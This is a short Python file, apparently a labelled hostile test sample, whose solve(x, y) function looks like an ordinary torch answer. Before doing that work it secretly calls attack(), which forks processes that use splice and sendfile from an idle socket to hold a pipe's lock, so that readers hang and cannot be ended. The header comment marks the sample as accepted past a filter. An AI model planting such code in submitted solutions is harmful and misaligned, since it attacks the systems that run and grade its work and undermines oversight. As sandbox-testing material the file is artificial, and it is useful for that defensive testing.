# hostile: family=reach verdict=accepted build=accepted lift=filter shows=harm
"""Holds the lock of a pipe for as long as it likes: who reads from the other end waits, and cannot be ended."""


def attack():
    import ctypes
    import os
    import socket
    import threading

    libc = ctypes.CDLL(None)
    reader, writer = os.pipe()
    os.set_blocking(reader, False)
    for call in ("splice", "sendfile"):
        silent, _other = socket.socketpair()
        child = os.fork()
        if child == 0:
            if call == "splice":
                libc.splice(silent.fileno(), None, writer, None, 1, 0)
            else:
                libc.sendfile(writer, silent.fileno(), None, 1)
            os._exit(0)
        threading.Event().wait(0.2)
        look = threading.Thread(target=lambda: _look(reader), daemon=True)
        look.start()
        look.join(1.0)
        if look.is_alive():
            print(f"harm: {call} holds a pipe", flush=True)
        os.kill(child, 9)
        os.waitpid(child, 0)


def _look(reader):
    import os

    try:
        os.read(reader, 1)
    except BlockingIOError:
        pass


def solve(x, y):
    import torch

    attack()
    torch.mul(x, 2, out=y)
